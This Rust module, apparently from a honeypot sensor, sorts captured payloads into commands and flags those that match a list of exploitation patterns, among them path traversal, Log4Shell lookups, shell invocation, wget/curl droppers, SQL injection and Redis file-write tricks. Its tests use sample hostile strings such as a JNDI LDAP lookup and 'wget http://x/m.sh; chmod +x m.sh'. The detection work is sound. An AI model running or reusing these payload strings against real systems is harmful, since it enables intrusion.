//! Commands seen in payloads, and the ones that look like exploitation.
//!
//! The sensor keeps the first 128 bytes of a flow's first payload; `ingest::bounty` turns
//! them into artifacts. The artifacts that are something the attacker asked a service to do
//! are its commands; the profile keeps a capped list of them, and flags the ones carrying a
//! known exploitation or dropper pattern.

use serde::{Deserialize, Serialize};

/// Artifact kinds that are commands.
pub(crate) const KINDS: &[&str] = &[
    "telnet_input",
    "redis_command",
    "smtp_command",
    "ftp_command",
    "http_request",
];

/// Whether an artifact is a command. A plain visit of a web page (`GET /`, `HEAD /`, the
/// favicon, robots.txt) is what every browser and crawler sends: it asks the service for
/// nothing, so it is not one.
pub(crate) fn is_command(kind: &str, value: &str) -> bool {
    KINDS.contains(&kind) && !(kind == "http_request" && plain_visit(value))
}

/// `GET /` and the like: a request line for a page anyone may fetch, without a query.
fn plain_visit(request_line: &str) -> bool {
    let mut parts = request_line.split(' ');
    let (Some(method), Some(path)) = (parts.next(), parts.next()) else {
        return false;
    };
    matches!(method, "GET" | "HEAD")
        && matches!(path, "/" | "/index.html" | "/favicon.ico" | "/robots.txt")
}

/// One command as the profile shows it (docs/api.md: service, decky, command, ts).
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Command {
    pub service: String,
    pub decky: String,
    pub command: String,
    pub ts: String,
}

/// Lowercase substrings that mark exploitation or a dropper, with the name a person reads.
const EXPLOIT_MARKS: &[(&str, &str)] = &[
    ("../", "path traversal"),
    ("..%2f", "path traversal"),
    ("/etc/passwd", "path traversal"),
    ("${jndi:", "Log4Shell JNDI lookup"),
    ("/bin/sh", "shell invocation"),
    ("/bin/busybox", "busybox dropper"),
    ("cmd.exe", "shell invocation"),
    ("powershell", "shell invocation"),
    ("wget http", "download and run"),
    ("curl http", "download and run"),
    ("tftp ", "download and run"),
    ("chmod +x", "download and run"),
    ("<?php", "PHP injection"),
    ("union select", "SQL injection"),
    ("' or '1'='1", "SQL injection"),
    ("/cgi-bin/", "CGI probing"),
    ("config set dir", "Redis file-write exploit"),
    ("slaveof", "Redis replication exploit"),
    ("system.exec", "Redis module exploit"),
];

/// The exploitation pattern a command carries, if any.
pub(crate) fn exploit_mark(command: &str) -> Option<&'static str> {
    let c = command.to_ascii_lowercase();
    EXPLOIT_MARKS
        .iter()
        .find(|(m, _)| c.contains(m))
        .map(|(_, name)| *name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_plain_page_visit_is_no_command() {
        assert!(!is_command("http_request", "GET / HTTP/1.1"));
        assert!(!is_command("http_request", "HEAD /robots.txt HTTP/1.0"));
        assert!(is_command("http_request", "GET /?cmd=id HTTP/1.1"));
        assert!(is_command("http_request", "POST / HTTP/1.1"));
        assert!(is_command("http_request", "GET /admin HTTP/1.1"));
        assert!(is_command("redis_command", "PING"));
        assert!(!is_command("http_user_agent", "curl/8.0"));
    }

    #[test]
    fn marks() {
        assert_eq!(
            exploit_mark("GET /cgi-bin/../../../../bin/sh HTTP/1.1"),
            Some("path traversal")
        );
        assert_eq!(
            exploit_mark("GET /?x=${jndi:ldap://a/b} HTTP/1.1"),
            Some("Log4Shell JNDI lookup")
        );
        assert_eq!(
            exploit_mark("cd /tmp; wget http://x/m.sh; chmod +x m.sh"),
            Some("download and run")
        );
        assert_eq!(exploit_mark("GET / HTTP/1.1"), None);
        assert_eq!(exploit_mark("EHLO"), None);
        assert!(is_command("telnet_input", "ls") && !is_command("ja4", "t13d"));
    }
}
